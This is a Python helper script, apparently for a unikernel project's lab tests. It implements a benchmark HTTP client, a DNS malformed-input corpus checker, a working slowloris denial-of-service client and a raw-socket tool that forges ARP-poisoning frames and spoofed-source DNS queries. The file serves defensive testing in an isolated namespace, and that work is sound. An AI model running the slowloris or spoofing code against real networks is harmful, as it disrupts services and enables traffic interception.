#!/usr/bin/env python3
"""Clients for the lab attack tests (scripts/lab-attacks.sh). Run inside the test's own
network namespace only; every loop is bounded in count and time.

  attack_tools.py legit HOST PORT SECONDS [RATE]
      A legitimate HTTP client: one new TCP connection per request (so every request goes
      through the SYN path), GET / with a 2 s timeout, RATE requests per second (default 20).
      Prints JSON: {"sent", "ok", "success_pct", "p50_ms", "p99_ms", "max_ms"}.
  attack_tools.py slowloris HOST PORT CONNECTIONS SECONDS
      Opens CONNECTIONS connections and drips one header byte per second on each, never
      ending the head. Prints JSON: {"opened", "closed_by_server", "got_408"}.
  attack_tools.py corpus-dns HOST PORT FILE...
      Sends each malformed-corpus payload (unikernels/apps/tests/corpus/*.dns) as one UDP
      datagram and checks the outcome its name announces (drop-: no answer within 0.3 s;
      formerr-, notimp-, refused-, nxdomain-, noerror-, servfail-: that rcode; badvers-:
      extended rcode 16). Prints the mismatches and 'N files, M unexpected'; exit 1 if any.
  attack_tools.py spoof IFACE VICTIM_IP VICTIM_MAC CLAIMED_IP EVIL_MAC DNS_IP
      Forged frames on IFACE (AF_PACKET): gratuitous ARP request and reply claiming
      CLAIMED_IP is at EVIL_MAC, an unsolicited ARP reply and an ARP request to VICTIM_IP
      with the same claim, and a UDP DNS query to DNS_IP from CLAIMED_IP with EVIL_MAC as
      Ethernet source. 20 rounds, 50 ms apart.
"""
import json
import socket
import struct
import sys
import time


def legit(host, port, secs, rate=20.0):
    lat, sent, ok = [], 0, 0
    gap = 1.0 / rate
    start = time.monotonic()
    nxt = start
    while True:
        now = time.monotonic()
        if now - start >= secs:
            break
        if now < nxt:
            time.sleep(nxt - now)
        nxt += gap
        sent += 1
        t0 = time.monotonic()
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.settimeout(2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                d = s.recv(4096)
                if not d:
                    break
                data += d
            s.close()
            if data.startswith(b"HTTP/1.1 200") and b"unibench" in data:
                ok += 1
                lat.append((time.monotonic() - t0) * 1000)
        except OSError:
            pass
    lat.sort()

    def pct(p):
        return round(lat[min(len(lat) - 1, int(len(lat) * p))], 2) if lat else None
    print(json.dumps({"sent": sent, "ok": ok, "success_pct": round(100.0 * ok / sent, 2) if sent else 0,
                      "p50_ms": pct(0.50), "p99_ms": pct(0.99), "max_ms": round(lat[-1], 2) if lat else None}))


def slowloris(host, port, n, secs):
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: ")
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    opened = len(socks)
    closed, got408 = set(), 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                d = s.recv(4096)
                if d.startswith(b"HTTP/1.1 408"):
                    got408 += 1
                closed.add(i)
                continue
            except BlockingIOError:
                pass
            except OSError:
                closed.add(i)
                continue
            try:
                s.send(b"a")
            except OSError:
                closed.add(i)
        time.sleep(1)
    for s in socks:
        s.close()
    print(json.dumps({"opened": opened, "closed_by_server": len(closed), "got_408": got408}))


def corpus_dns(host, port, files):
    rcodes = {"noerror": 0, "formerr": 1, "servfail": 2, "nxdomain": 3, "notimp": 4, "refused": 5}
    bad = 0
    for path in files:
        name = path.rsplit("/", 1)[-1]
        kind = name.split("-", 1)[0]
        data = open(path, "rb").read()
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.3 if kind == "drop" else 2)
        s.connect((host, port))
        got = None
        for _ in range(1 if kind == "drop" else 3):
            s.send(data)
            try:
                got = s.recv(4096)
                break
            except (socket.timeout, ConnectionRefusedError):
                continue
        s.close()
        if kind == "drop":
            ok = got is None
        elif got is None or len(got) < 12:
            ok = False
        elif kind == "badvers":
            ok = (got[3] & 15) == 0 and got[-6] == 1
        else:
            ok = (got[3] & 15) == rcodes.get(kind, -1)
        if not ok:
            bad += 1
            print("%s: got %s" % (name, got[:4].hex() if got else "no answer"))
    print("%d files, %d unexpected" % (len(files), bad))
    return 1 if bad else 0


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def spoof(iface, victim_ip, victim_mac, claimed_ip, evil_mac, dns_ip):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    vip, cip, dip = socket.inet_aton(victim_ip), socket.inet_aton(claimed_ip), socket.inet_aton(dns_ip)
    vmac, emac, bc = mac_bytes(victim_mac), mac_bytes(evil_mac), b"\xff" * 6

    def arp(dst, op, sha, spa, tha, tpa):
        return dst + sha + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, spa, tha, tpa)
    q = struct.pack("!HHHHHH", 0x5150, 0, 1, 0, 0, 0) + b"\x03www\x05cetic\x02be\x00" + struct.pack("!HH", 1, 1)
    u = struct.pack("!HHHH", 5353, 53, 8 + len(q), 0) + q
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(u), 1, 0x4000, 64, 17, 0, cip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frames = [arp(bc, 1, emac, cip, b"\0" * 6, cip), arp(bc, 2, emac, cip, b"\0" * 6, cip),
              arp(vmac, 2, emac, cip, vmac, vip), arp(bc, 1, emac, cip, b"\0" * 6, vip),
              vmac + emac + b"\x08\x00" + ip + u]
    for _ in range(20):
        for f in frames:
            s.send(f + b"\0" * max(0, 60 - len(f)))
        time.sleep(0.05)
    print(json.dumps({"frames": 20 * len(frames)}))


def main():
    cmd = sys.argv[1]
    if cmd == "legit":
        legit(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]) if len(sys.argv) > 5 else 20.0)
    elif cmd == "slowloris":
        slowloris(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
    elif cmd == "corpus-dns":
        return corpus_dns(sys.argv[2], int(sys.argv[3]), sys.argv[4:])
    elif cmd == "spoof":
        spoof(*sys.argv[2:8])
    else:
        print("unknown command " + cmd, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
